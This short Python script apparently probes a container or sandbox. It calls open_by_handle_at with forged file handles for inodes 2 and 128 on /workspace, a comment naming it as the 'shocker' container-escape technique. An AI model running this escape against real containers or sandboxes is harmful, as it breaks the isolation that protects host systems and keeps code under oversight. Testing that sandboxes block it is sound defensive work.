import sys

sys.path.insert(0, "/inputs")
from trying import attempt, syscall
# A file by its inode, past every mount: how containers were left by "shocker".
import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("inode", ctypes.c_uint64)]


mount = os.open("/workspace", os.O_RDONLY)
for inode in (2, 128):
    handle = Handle(8, 1, inode)
    attempt(f"inode {inode}", lambda: syscall("open_by_handle_at", mount, ctypes.byref(handle), 0))
